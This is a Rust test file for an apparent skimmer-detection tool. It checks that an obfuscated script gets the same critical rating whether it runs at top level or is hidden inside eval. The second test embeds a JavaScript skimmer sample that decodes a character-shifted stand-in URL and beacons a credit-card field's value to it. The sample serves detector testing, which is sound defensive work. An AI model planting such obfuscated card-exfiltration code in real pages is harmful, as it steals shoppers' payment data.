//! One way to analyse code (issue 9, class 7): code decoded from `eval`/`Function` gets the
//! same pipeline as top-level code (top-level run, fallback parser, parameters bound to what
//! is passed), so the same decoder is critical wherever it sits.

mod engine_support;
use engine_support::{analyse, check_dir};
use skimscan::finding::Severity;

#[test]
fn decoded_layers_are_analysed_like_the_script() {
    let (skim, legit) = check_dir("layers");
    assert!(
        skim >= 8 && legit >= 3,
        "{skim} skimmers, {legit} legitimate"
    );
}

#[test]
fn the_same_decoder_is_equally_severe_at_top_level_and_inside_eval() {
    let top = "var k = 'iuuqt;00efdpefs/fybnqmf0d';\nvar u = '';\nfor (var i = 0; i < k.length; i++) u += String.fromCharCode(k.charCodeAt(i) - 1);\nnavigator.sendBeacon(u, document.getElementById('cc_number').value);\n";
    let worst = |code: &str| {
        analyse("x.js", code)
            .findings
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Info)
    };
    let escaped = top
        .replace('\\', "\\\\")
        .replace('\'', "\\'")
        .replace('\n', "\\n");
    let hidden = format!("eval('{escaped}');");
    assert_eq!(worst(top), Severity::Critical);
    assert_eq!(worst(&hidden), Severity::Critical);
}
